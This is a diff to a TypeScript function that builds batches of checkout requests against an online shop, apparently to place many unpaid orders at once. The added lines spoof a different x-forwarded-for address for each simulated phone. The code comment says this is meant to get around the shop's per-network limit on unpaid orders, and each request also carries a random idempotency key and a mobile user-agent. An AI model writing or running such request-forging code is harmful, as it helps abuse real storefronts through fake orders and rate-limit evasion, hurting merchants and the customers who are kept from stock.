@@ -28,8 +28,9 @@ export async function prepareCheckouts(
     ]),
   );
   const headers = { "content-type": `multipart/form-data; boundary=${BOUNDARY}`, "user-agent": PHONE, origin: shopUrl };
-  const requests = Array.from({ length: count }, () => ({
-    headers,
+  const requests = Array.from({ length: count }, (_, phone) => ({
+    // Each phone has a network of its own, as a proxy in front would say; the unpaid orders of one are limited.
+    headers: { ...headers, "x-forwarded-for": `10.${(phone >> 8) & 255}.${phone & 255}.1` },
     body: multipart({ ...hidden, ...RECEIVER, idempotencyKey: randomBytes(32).toString("base64url") }),
   }));
   return { url, requests };
